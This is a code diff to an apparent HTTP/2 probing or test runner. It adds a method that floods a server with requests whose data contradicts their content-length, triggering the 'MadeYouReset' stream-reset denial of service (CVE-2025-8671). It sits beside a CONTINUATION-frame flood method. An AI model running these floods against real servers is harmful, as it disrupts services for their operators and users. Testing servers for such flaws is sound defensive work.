@@ -169,6 +169,21 @@ class Runner:
             self.probe.flush()
             self.probe.drain()
 
+    def do_provoke_resets(self, a):
+        """`count` requests whose DATA contradicts their content-length, so the server resets
+        each stream itself ("MadeYouReset", CVE-2025-8671), written in one piece: the server
+        reads them all before it answers, and a close of its own cannot cut the write short."""
+        conn = self.probe.conn
+        declared = str(a.get("declared", 1))
+        data = str(a.get("data", "xy")).encode("utf-8")
+        fields = dict(a, method=a.get("method", "POST"))
+        fields["extra"] = a.get("extra", []) + [["content-length", declared]]
+        for _ in range(int(a.get("count", 100))):
+            sid = self.open({})
+            conn.send_headers(sid, request_headers(self.probe, fields))
+            conn.send_data(sid, data, end_stream=True)
+        self.probe.flush()
+
     def do_continuation_flood(self, a):
         """HEADERS without END_HEADERS, then `count` CONTINUATION frames, written raw (the h2
         package would refuse). Each fragment is a literal never-indexed field, so the block
